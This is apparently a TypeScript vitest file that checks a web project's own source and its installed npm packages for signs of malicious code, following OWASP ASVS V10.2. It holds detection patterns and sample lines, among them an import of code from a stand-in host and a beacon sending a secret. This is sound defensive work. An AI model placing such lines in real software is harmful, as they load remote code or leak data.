/** OWASP ASVS V10.2: what code that means ill would need, looked for in our own source and in what we install. */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';

const SOURCE = /\.(?:ts|tsx|mjs|cjs|js|astro|css)$/;

/** Everything of ours that runs, or builds what runs, in a product. */
const files = execFileSync('git', ['ls-files', 'cms', 'site', 'scoring', 'scripts', 'astro.config.mjs'], {
  encoding: 'utf8',
})
  .split('\n')
  .filter((file) => SOURCE.test(file) && !file.startsWith('cms/migrations/'));

/** Code that makes code out of text, or talks to the network around `fetch`. */
const SUSPECT: Record<string, RegExp> = {
  eval: /(?<![.\w])eval\s*\(/,
  'new Function': /(?<![.\w])Function\s*\(/,
  'a timer with text': /(?<!\w)set(?:Timeout|Interval)\s*\(\s*['"`]/,
  'a machine of its own': /['"](?:node:)?(?:vm|repl|inspector|dgram|dns|tls|http2|https)['"]/,
  'code from an address': /import\s*\(\s*['"`](?:https?|data|blob):|importScripts\s*\(/,
  'a hidden text': /['"`][A-Za-z0-9+/]{300,}={0,2}['"`]/,
  'a beacon': /sendBeacon|new\s+WebSocket|new\s+EventSource|new\s+XMLHttpRequest/,
};

/** Every host that our source names, and why. Our code asks none of them for anything but the first. */
const HOSTS: Record<string, string> = {
  '127.0.0.1': 'the other half of this product, until a setting names another',
  'registry.npmjs.org': 'named in the help of `npm run advisories`; npm asks the registry that it is set to',
  'www.w3.org': 'the name of SVG',
  'www.sitemaps.org': 'the name of a sitemap',
  'json-schema.org': 'the name of a schema',
  'cyclonedx.org': 'the name of the list of parts',
  'github.com': 'where word data comes from, in a comment',
};

const suspectsIn = (text: string) =>
  Object.entries(SUSPECT)
    .filter(([, pattern]) => pattern.test(text))
    .map(([name]) => name);

const hostsIn = (text: string) =>
  [...text.matchAll(/\b(?:https?|wss?|ftp):\/\/([a-z0-9][a-z0-9.-]*)/gi)].map(([, host = '']) =>
    host.toLowerCase().replace(/\.$/, ''),
  );

describe('our own source', () => {
  it('is looked at whole', () => {
    expect(files.length).toBeGreaterThan(400);
  });

  it.each([
    ['eval', 'const x = eval(text);'],
    ['new Function', 'return new Function("a", text)(1);'],
    ['a timer with text', "setTimeout('go()', 10);"],
    ['a machine of its own', "import { runInThisContext } from 'node:vm';"],
    ['code from an address', "await import('https://kwaad.example/x.js');"],
    ['a hidden text', `const x = '${'QUJD'.repeat(100)}';`],
    ['a beacon', "navigator.sendBeacon('/x', secret);"],
  ])('would show %s', (name, line) => {
    expect(suspectsIn(line)).toContain(name);
  });

  it('makes no code out of text and has no way out of its own', () => {
    const found = files.flatMap((file) =>
      suspectsIn(readFileSync(file, 'utf8')).map((name) => `${file}: ${name}`),
    );
    expect(found).toEqual([]);
  });

  it('names no address but those with a reason, and no reason stands here for nothing', () => {
    const found = files.flatMap((file) => hostsIn(readFileSync(file, 'utf8')));
    expect([...new Set(found)].sort()).toEqual(Object.keys(HOSTS).sort());
  });
});

interface Manifest {
  scripts?: Record<string, string>;
}

describe('the packages we install', () => {
  const { packages } = JSON.parse(readFileSync('package-lock.json', 'utf8')) as {
    packages: Record<string, { hasInstallScript?: boolean; dev?: boolean; link?: boolean }>;
  };
  const installed = Object.keys(packages).filter((path) => path && existsSync(join(path, 'package.json')));
  const nameOf = (path: string) => path.slice(path.lastIndexOf('node_modules/') + 'node_modules/'.length);

  /** What npm runs by itself: a script by one of three names, or the build of native code. */
  const runsAtInstall = (path: string) => {
    const { scripts = {} } = JSON.parse(readFileSync(join(path, 'package.json'), 'utf8')) as Manifest;
    const named = ['preinstall', 'install', 'postinstall'].some((name) => scripts[name]);
    return named || existsSync(join(path, 'binding.gyp'));
  };

  it('are looked at, each one that is here', () => {
    expect(installed.length).toBeGreaterThan(900);
  });

  it('run nothing when they are installed, but for the one that may', () => {
    const found = [...new Set(installed.filter(runsAtInstall).map(nameOf))].sort();
    const { allowScripts } = JSON.parse(readFileSync('package.json', 'utf8')) as {
      allowScripts: Record<string, boolean>;
    };
    expect(found.filter((name) => allowScripts[name] === undefined)).toEqual([]);
    expect(found.filter((name) => allowScripts[name])).toEqual(['esbuild']);
  });

  it('run nothing that the lockfile keeps silent about', () => {
    const silent = installed.filter((path) => runsAtInstall(path) && !packages[path]?.hasInstallScript);
    expect(silent).toEqual([]);
  });
});
